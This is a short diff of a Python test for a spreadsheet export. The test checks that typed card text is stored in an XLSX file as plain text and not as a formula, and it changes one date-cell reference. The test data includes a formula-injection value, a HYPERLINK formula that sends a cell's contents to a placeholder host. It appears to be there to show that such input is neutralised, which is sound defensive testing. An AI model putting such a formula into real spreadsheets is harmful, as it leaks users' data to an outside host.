@@ -73,7 +73,7 @@ def test_xlsx_holds_typed_text_and_never_a_formula(evening: Evening) -> None:
     texts = [row[4].value for row in book["Karten"].iter_rows(min_row=2)]
     assert '=HYPERLINK("http://example.invalid/?d="&A1;"Zur Anmeldung")' in texts
     assert texts == [row["text"] for row in as_json(evening)["cards"]]
-    assert book["Karten"]["P2"].is_date
+    assert book["Karten"]["R2"].is_date
 
 
 def test_xlsx_of_text_that_xml_cannot_hold(fresh: Evening) -> None:
